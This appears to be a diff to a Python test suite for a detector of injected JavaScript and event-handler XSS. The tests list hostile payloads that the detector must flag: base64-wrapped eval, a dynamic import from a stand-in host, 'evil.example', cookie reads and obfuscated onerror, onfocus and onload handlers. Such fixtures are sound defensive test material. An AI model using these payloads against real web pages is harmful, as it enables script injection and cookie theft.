@@ -59,7 +59,7 @@ JS_BARE = [
     "eval(atob('YWxlcnQoMSk='))",
     "setTimeout('alert(1)')",
     "import('//evil.example/x.js')",
-    "(document)['cookie']",
+    "x=(document)['cookie']",
     "document.getElementById('out').innerHTML = location.hash",
 ]
 
@@ -211,3 +211,11 @@ def test_style_blocks_that_only_style_pass() -> None:
                 "<style>a{x:exp\\72ession(alert(1))}</style>",
         '<style>@font-face {font-family: y; src: url("font.svg#x") format("svg");}</style>', "x<style"):  # fmt: skip
         assert is_css_code(css), css
+
+
+def test_words_shaped_like_handlers_pass_and_handlers_that_run_do_not() -> None:
+    for text in ("status: online=yes", "mode=dark; onboarding=done", '{"filter":"onsale=1"}', "x onclick=void(0)"):
+        assert not is_event_handler(text), text
+    for text in ("<w=\"/x=\"y>\"/OndbLcLick=`<`[confirm``]>z", "<img alt='x'><img src=xx:x onerror=aler", '"onzoom=',
+                 "\" onfocus=location=name autofocus x=\"", "<svg onload=alert>", "<x onclick=import('//e')>"):  # fmt: skip
+        assert is_event_handler(text), text
